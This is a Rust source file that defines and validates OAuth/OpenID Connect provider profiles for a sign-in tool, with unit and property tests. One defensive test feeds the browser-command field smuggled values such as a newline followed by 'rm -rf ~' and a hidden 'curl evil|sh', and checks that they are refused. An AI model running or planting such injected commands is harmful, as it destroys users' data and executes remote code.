use std::collections::BTreeMap;
use std::fmt;
use std::path::PathBuf;

use url::Url;

use crate::error::{Error, Result};

pub use super::record::ProfileRecord;
pub use super::redirect::{LoopbackHost, Redirect};
pub use super::sign_in::{ExpectedAccount, SignInFlow};

/// A profile's name: what the command line and the keychain entries use. Kept to a safe
/// alphabet so it can name lock files and keychain accounts on every platform.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct ProfileName(String);

impl ProfileName {
    /// Checks `name` against the safe alphabet: 1–64 ASCII letters, digits, `-`, `_` or `.`,
    /// starting with a letter or digit.
    pub fn new(name: &str) -> Result<Self> {
        let ok_len = !name.is_empty() && name.len() <= 64;
        let ok_chars = name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'));
        let ok_start = name
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphanumeric());
        if ok_len && ok_chars && ok_start {
            Ok(Self(name.to_owned()))
        } else {
            Err(Error::invalid_field(
                ProfileField::Name,
                format!(
                    "invalid profile name `{name}`: use 1–64 letters, digits, `-`, `_` or `.`, \
                     starting with a letter or digit"
                ),
            ))
        }
    }

    /// The name as written.
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// Whether two names would share a keychain entry or a lock file somewhere: Windows'
    /// Credential Manager and case-insensitive file systems ignore case.
    pub fn collides_with(&self, other: &ProfileName) -> bool {
        self.0.eq_ignore_ascii_case(&other.0)
    }

    /// The error for adding `self` where `existing` is (the same name, or one that collides).
    pub(crate) fn duplicate_of(&self, existing: &ProfileName) -> Error {
        Error::DuplicateProfile(if self == existing {
            self.to_string()
        } else {
            format!("{self} (as `{existing}`: names may not differ only in case)")
        })
    }
}

impl fmt::Display for ProfileName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// A profile's fields, as an error names the one to blame.
#[derive(Clone, Copy, Debug, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "snake_case")]
pub enum ProfileField {
    /// The profile's name.
    Name,
    /// The issuer URL.
    Issuer,
    /// The explicit authorization endpoint.
    AuthorizationEndpoint,
    /// The explicit token endpoint.
    TokenEndpoint,
    /// The explicit revocation endpoint.
    RevocationEndpoint,
    /// The explicit userinfo endpoint.
    UserinfoEndpoint,
    /// The client id.
    ClientId,
    /// The client authentication method.
    ClientAuth,
    /// The scopes.
    Scopes,
    /// The extra authorization parameters.
    Params,
    /// The redirect URI.
    RedirectUri,
    /// The browser command.
    Browser,
    /// The device authorization endpoint (explicit endpoints).
    DeviceAuthorizationEndpoint,
    /// The sign-in flow.
    Flow,
    /// The CA certificate file trusted for this provider.
    CaFile,
    /// The expected account's subject.
    ExpectSub,
    /// The expected account's email.
    ExpectEmail,
}

/// Where a profile's endpoints come from.
// A handful of profiles live at a time; boxing the larger variant would buy nothing.
#[allow(clippy::large_enum_variant)]
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Provider {
    /// Discovered from `{issuer}/.well-known/openid-configuration`, falling back to RFC 8414.
    /// Kept exactly as written: it is compared byte for byte with the provider's `issuer`/`iss`
    /// (`https://tenant.example/` and `https://tenant.example` are different issuers).
    Issuer {
        /// The issuer identifier.
        issuer: String,
    },
    /// A plain OAuth 2.0 server with endpoints given explicitly.
    Endpoints {
        /// Where the person signs in.
        authorization: Url,
        /// Where codes and refresh tokens are exchanged for tokens.
        token: Url,
        /// Where sign-out revokes the refresh token (RFC 7009), if the server has one.
        revocation: Option<Url>,
        /// Where the device grant (RFC 8628) starts, if the server offers it.
        device: Option<Url>,
        /// The userinfo endpoint, if the server has one.
        userinfo: Option<Url>,
    },
}

/// Authorization parameters Pixie sets itself and a profile may not override.
pub(super) const RESERVED_PARAMS: &[&str] = &[
    "response_type",
    "client_id",
    "redirect_uri",
    "scope",
    "state",
    "nonce",
    "code_challenge",
    "code_challenge_method",
    "response_mode",
];

/// How a confidential client authenticates at the token endpoint (RFC 6749 §2.3.1).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum ClientAuth {
    /// HTTP Basic (`client_secret_basic`), the default.
    #[default]
    Basic,
    /// In the request body (`client_secret_post`), for clients registered that way.
    Post,
}

impl ClientAuth {
    /// Parses a method: `client_secret_basic` (or `basic`) or `client_secret_post` (or `post`).
    pub fn parse(s: &str) -> Result<Self> {
        match s {
            "client_secret_basic" | "basic" => Ok(Self::Basic),
            "client_secret_post" | "post" => Ok(Self::Post),
            other => Err(Error::invalid_field(
                ProfileField::ClientAuth,
                format!(
                    "unknown client authentication `{other}` (use client_secret_basic or \
                     client_secret_post)"
                ),
            )),
        }
    }

    /// The method's name in provider metadata and in the profile file.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Basic => "client_secret_basic",
            Self::Post => "client_secret_post",
        }
    }
}

/// A validated provider profile.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Profile {
    /// The profile's name.
    pub name: ProfileName,
    /// Where the endpoints come from.
    pub provider: Provider,
    /// The client id registered with the provider.
    pub client_id: String,
    /// Whether a client secret is kept in the keychain for this profile.
    pub client_secret_in_keychain: bool,
    /// How a client secret is sent to the token endpoint.
    pub client_auth: ClientAuth,
    /// The scopes to ask for, each once, in order.
    pub scopes: Vec<String>,
    /// Extra authorization request parameters (e.g. `prompt`); ones Pixie sets itself are refused.
    pub params: BTreeMap<String, String>,
    /// The loopback redirect URI.
    pub redirect: Redirect,
    /// A command that opens the sign-in page for this profile: `%s` in it is replaced by the URL,
    /// else the URL is appended. Tried after `$BROWSER`, before the platform's default.
    pub browser: Option<String>,
    /// How a sign-in goes unless the front says otherwise; `None`: chosen from the surroundings.
    pub flow: Option<SignInFlow>,
    /// A PEM file of CA certificates trusted for this provider besides the system's roots.
    pub ca_file: Option<PathBuf>,
    /// The account this profile is for.
    pub expected: ExpectedAccount,
    /// Sign-out also ends the provider's browser session (OpenID Connect RP-Initiated Logout).
    pub browser_logout: bool,
}

impl Profile {
    /// Whether the profile asks for an ID token (and so a nonce and ID-token verification).
    pub fn wants_openid(&self) -> bool {
        self.scopes.iter().any(|s| s == "openid")
    }

    /// The issuer the profile names, if it names one.
    pub fn issuer(&self) -> Option<&str> {
        match &self.provider {
            Provider::Issuer { issuer } => Some(issuer),
            Provider::Endpoints { .. } => None,
        }
    }

    /// The profile as the profile file and exports write it (defaults left out).
    pub fn to_record(&self) -> ProfileRecord {
        let (issuer, authorization, token, revocation, userinfo) = match &self.provider {
            Provider::Issuer { issuer } => (Some(issuer.clone()), None, None, None, None),
            Provider::Endpoints {
                authorization,
                token,
                revocation,
                userinfo,
                device: _,
            } => (
                None,
                Some(authorization.to_string()),
                Some(token.to_string()),
                revocation.as_ref().map(Url::to_string),
                userinfo.as_ref().map(Url::to_string),
            ),
        };
        let device = match &self.provider {
            Provider::Endpoints { device, .. } => device.as_ref().map(Url::to_string),
            Provider::Issuer { .. } => None,
        };
        ProfileRecord {
            name: self.name.to_string(),
            issuer,
            authorization_endpoint: authorization,
            token_endpoint: token,
            revocation_endpoint: revocation,
            userinfo_endpoint: userinfo,
            client_id: self.client_id.clone(),
            client_secret_in_keychain: self.client_secret_in_keychain,
            client_auth: (self.client_auth != ClientAuth::Basic)
                .then(|| self.client_auth.as_str().to_owned()),
            scopes: self.scopes.clone(),
            params: self.params.clone(),
            redirect_uri: (self.redirect != Redirect::default()).then(|| self.redirect.to_string()),
            browser: self.browser.clone(),
            device_authorization_endpoint: device,
            flow: self.flow.map(|f| f.as_str().to_owned()),
            ca_file: self.ca_file.as_ref().map(|p| p.display().to_string()),
            expect_sub: self.expected.sub.clone(),
            expect_email: self.expected.email.clone(),
            browser_logout: self.browser_logout,
        }
    }
}

/// Parses an endpoint or issuer URL. TLS is required except on loopback (local test servers).
pub fn parse_endpoint(field: &str, value: &str) -> Result<Url> {
    let url = Url::parse(value.trim())
        .map_err(|e| Error::invalid(format!("{field}: `{value}` is not a URL ({e})")))?;
    let loopback = match url.host() {
        Some(url::Host::Ipv4(ip)) => ip.is_loopback(),
        Some(url::Host::Ipv6(ip)) => ip.is_loopback(),
        Some(url::Host::Domain(d)) => d == "localhost",
        None => false,
    };
    match url.scheme() {
        "https" => {}
        "http" if loopback => {}
        "http" => {
            return Err(Error::invalid(format!(
                "{field}: `{value}` must use https (plain http is only allowed on loopback)"
            )))
        }
        other => {
            return Err(Error::invalid(format!(
                "{field}: `{value}` has unsupported scheme `{other}`"
            )))
        }
    }
    if url.fragment().is_some() {
        return Err(Error::invalid(format!(
            "{field}: `{value}` must not have a fragment"
        )));
    }
    Ok(url)
}

impl Profile {
    /// The scopes a profile with an issuer asks for unless told otherwise: an ID token, a
    /// refresh token, and the claims the claims view shows. The CLI and the app both use it.
    pub const DEFAULT_SCOPES: &'static [&'static str] =
        &["openid", "offline_access", "profile", "email"];

    /// Where the profile's endpoints are, in one line for a person to compare.
    pub fn endpoint_summary(&self) -> String {
        match &self.provider {
            Provider::Issuer { issuer } => format!("issuer {issuer}"),
            Provider::Endpoints {
                authorization,
                token,
                revocation,
                ..
            } => {
                let mut s = format!("authorization {authorization}, token {token}");
                if let Some(r) = revocation {
                    s.push_str(&format!(", revocation {r}"));
                }
                s
            }
        }
    }

    /// The authorization endpoint's host and another host that tokens go to, when there is one
    /// (explicit endpoints only): the token or revocation endpoint on a host the sign-in page is
    /// not on receives the code, refresh tokens and the client secret.
    pub fn split_endpoints(&self) -> Option<(String, String)> {
        let Provider::Endpoints {
            authorization,
            token,
            revocation,
            ..
        } = &self.provider
        else {
            return None;
        };
        let a = authorization.host_str()?;
        std::iter::once(token)
            .chain(revocation)
            .filter_map(|u| u.host_str())
            .find(|h| !h.eq_ignore_ascii_case(a))
            .map(|h| (a.to_owned(), h.to_owned()))
    }

    /// The browser command as the words it runs (program first), for a person to check.
    pub fn browser_words(&self) -> Option<Vec<String>> {
        shell_words::split(self.browser.as_deref()?).ok()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn record() -> ProfileRecord {
        ProfileRecord {
            name: "work".into(),
            issuer: Some("https://id.example.com".into()),
            client_id: "abc".into(),
            scopes: vec!["openid offline_access".into(), "email".into()],
            ..Default::default()
        }
    }

    #[test]
    fn names_are_restricted() {
        assert!(ProfileName::new("work-1.dev_x").is_ok());
        for bad in ["", "-x", "a b", "a/b", "ä", &"x".repeat(65)] {
            assert!(ProfileName::new(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn scopes_are_split_and_deduplicated() {
        let p = Profile::try_from(record()).unwrap();
        assert_eq!(p.scopes, ["openid", "offline_access", "email"]);
        assert!(p.wants_openid());
    }

    #[test]
    fn issuer_or_endpoints_exclusively() {
        let mut r = record();
        r.token_endpoint = Some("https://id.example.com/token".into());
        assert!(Profile::try_from(r.clone()).is_err());
        r.issuer = None;
        assert!(
            Profile::try_from(r.clone()).is_err(),
            "token without authorization"
        );
        r.authorization_endpoint = Some("https://id.example.com/auth".into());
        assert!(matches!(
            Profile::try_from(r).unwrap().provider,
            Provider::Endpoints { .. }
        ));
    }

    #[test]
    fn plain_http_only_on_loopback() {
        let mut r = record();
        r.issuer = Some("http://id.example.com".into());
        assert!(Profile::try_from(r.clone()).is_err());
        r.issuer = Some("http://127.0.0.1:8080".into());
        assert!(Profile::try_from(r).is_ok());
    }

    #[test]
    fn reserved_params_are_refused() {
        let mut r = record();
        r.params.insert("state".into(), "x".into());
        assert!(Profile::try_from(r.clone()).is_err());
        r.params.clear();
        r.params.insert("audience".into(), "api".into());
        assert!(Profile::try_from(r).is_ok());
    }

    #[test]
    fn a_browser_command_cannot_hide_what_it_runs() {
        for hidden in [
            "firefox\nrm -rf ~",
            "firefox \u{1b}[8mcurl evil|sh",
            "firefox \u{202e}hs.live",
            "firefox\r",
        ] {
            let r = ProfileRecord {
                browser: Some(hidden.into()),
                ..record()
            };
            let err = Profile::try_from(r).unwrap_err().to_string();
            assert!(err.contains("control or invisible"), "{err}");
            assert!(!err.chars().any(crate::text::is_unsafe), "{err:?}");
        }
        let p = Profile::try_from(ProfileRecord {
            browser: Some("firefox --new-window '%s'".into()),
            ..record()
        })
        .unwrap();
        assert_eq!(
            p.browser_words().unwrap(),
            ["firefox", "--new-window", "%s"]
        );
    }

    #[test]
    fn redirect_uris() {
        let r = Redirect::parse("http://127.0.0.1/callback").unwrap();
        assert_eq!(r, Redirect::default());
        let r = Redirect::parse("http://localhost:8400/cb").unwrap();
        assert_eq!(
            (r.host, r.port, r.path.as_str()),
            (LoopbackHost::Localhost, 8400, "/cb")
        );
        assert_eq!(r.uri_for_port(8400), "http://localhost:8400/cb");
        let r = Redirect::parse("http://[::1]:9000/").unwrap();
        assert_eq!(r.host, LoopbackHost::Ipv6);
        // `:80` spelled out is a fixed port, not "pick a free one".
        let r = Redirect::parse("http://127.0.0.1:80/callback").unwrap();
        assert_eq!(r.port, 80);
        assert_eq!(Redirect::parse(&r.to_string()).unwrap(), r);
        assert_eq!(Redirect::parse("http://[::1]:80/cb").unwrap().port, 80);
        assert_eq!(
            Redirect::parse("http://127.0.0.1:8080/cb").unwrap().port,
            8080
        );
        for bad in [
            "https://127.0.0.1/cb",
            "http://example.com/cb",
            "http://0.0.0.0/cb",
            "http://127.0.0.1/cb?x=1",
        ] {
            assert!(Redirect::parse(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn record_round_trip_keeps_issuer_as_written() {
        let p = Profile::try_from(record()).unwrap();
        let r = p.to_record();
        assert_eq!(r.issuer.as_deref(), Some("https://id.example.com"));
        assert_eq!(r.redirect_uri, None);
        assert_eq!(Profile::try_from(r).unwrap(), p);
    }

    #[test]
    fn issuer_is_kept_exactly_as_written() {
        for issuer in [
            "https://tenant.example.com/",
            "https://tenant.example.com",
            "https://a.example/t/1",
        ] {
            let mut r = record();
            r.issuer = Some(issuer.into());
            let p = Profile::try_from(r).unwrap();
            assert_eq!(p.issuer(), Some(issuer));
            assert_eq!(p.to_record().issuer.as_deref(), Some(issuer));
        }
    }

    #[test]
    fn client_auth_is_validated() {
        let mut r = record();
        r.client_auth = Some("client_secret_post".into());
        assert_eq!(
            Profile::try_from(r.clone()).unwrap().client_auth,
            ClientAuth::Post
        );
        r.client_auth = Some("private_key_jwt".into());
        assert!(Profile::try_from(r).is_err());
    }

    /// Mostly text of the `valid` shape, sometimes anything.
    fn mostly(valid: &'static str) -> impl proptest::strategy::Strategy<Value = String> {
        proptest::prop_oneof![9 => valid, 1 => "(?s).{0,12}"]
    }

    fn any_url() -> impl proptest::strategy::Strategy<Value = String> {
        proptest::prop_oneof![
            4 => "https://[a-z]{1,8}\\.example(:[0-9]{1,5})?(/[a-zA-Z0-9._~%-]{0,8}){0,3}/?",
            4 => "http://(127\\.0\\.0\\.1|localhost|\\[::1\\])(:[0-9]{1,5})?(/[a-z]{0,5}){0,2}",
            1 => " ?https://[a-z]{1,4}\\.example/(?s).{0,12}",
            1 => "(?s).{0,16}",
        ]
    }

    fn any_record() -> impl proptest::strategy::Strategy<Value = ProfileRecord> {
        use proptest::collection::{btree_map, vec};
        use proptest::option::of;
        use proptest::strategy::Strategy;
        let endpoints = (any_url(), any_url(), of(any_url()), of(any_url()));
        let redirect = of(mostly(
            "http://(127\\.0\\.0\\.1|localhost|\\[::1\\])(:[0-9]{1,5})?(/[a-zA-Z0-9%._~-]{0,6}){0,2}/?",
        ));
        let client = (
            mostly("[a-zA-Z0-9][a-zA-Z0-9._-]{0,8}"),
            " ?[a-z0-9-]{0,8} ?",
            proptest::bool::ANY,
            of(mostly("client_secret_basic|client_secret_post|basic|post")),
        );
        let request = (
            vec(mostly("[ -~&&[^\"\\\\]]{0,12}"), 0..4),
            btree_map(mostly("[a-z_]{1,8}"), "(?s).{0,8}", 0..3),
            redirect,
            of(mostly("[a-z]{1,8}( --?[a-z-]{1,8}){0,3}( '?%s'?)?")),
        );
        let sign_in = (
            of(any_url()),
            of(mostly("auto|browser|device|paste")),
            of(mostly("/[a-z]{1,8}/[a-z]{1,8}\\.pem|[a-z]{1,8}\\.pem")),
            of(mostly("[a-zA-Z0-9@._-]{0,12}")),
            of(mostly("[a-z]{1,6}@[a-z]{1,6}\\.example")),
            proptest::bool::ANY,
        );
        // 0: an issuer alone, 1: endpoints alone (the valid shapes), 2: both, 3: half the endpoints.
        let shape = 0..4u8;
        (shape, any_url(), endpoints, client, request, sign_in).prop_map(
            |(shape, issuer, (auth, token, revocation, userinfo), client, request, sign_in)| {
                ProfileRecord {
                    name: client.0,
                    issuer: matches!(shape, 0 | 2).then_some(issuer),
                    authorization_endpoint: (shape != 0).then_some(auth),
                    token_endpoint: matches!(shape, 1 | 2).then_some(token),
                    revocation_endpoint: revocation.filter(|_| shape != 0),
                    userinfo_endpoint: userinfo.filter(|_| shape != 0),
                    client_id: client.1,
                    client_secret_in_keychain: client.2,
                    client_auth: client.3,
                    scopes: request.0,
                    params: request.1,
                    redirect_uri: request.2,
                    browser: request.3,
                    device_authorization_endpoint: sign_in.0.filter(|_| shape != 0),
                    flow: sign_in.1,
                    ca_file: sign_in.2,
                    expect_sub: sign_in.3,
                    expect_email: sign_in.4,
                    browser_logout: sign_in.5,
                }
            },
        )
    }

    proptest::proptest! {
        #![proptest_config(proptest::test_runner::Config::with_cases(1024))]

        /// Whatever validates is written back (`to_record`) as something that validates again
        /// into the same profile: the profile file and exports never change a profile.
        #[test]
        fn a_valid_record_survives_to_record(record in any_record()) {
            if let Ok(profile) = Profile::try_from(record) {
                let again = Profile::try_from(profile.to_record());
                proptest::prop_assert_eq!(again.ok(), Some(profile));
            }
        }
    }

    #[test]
    fn unknown_fields_are_refused() {
        let json =
            r#"{"name":"x","issuer":"https://a.example","client_id":"c","client_secret":"s"}"#;
        assert!(serde_json::from_str::<ProfileRecord>(json).is_err());
    }
}
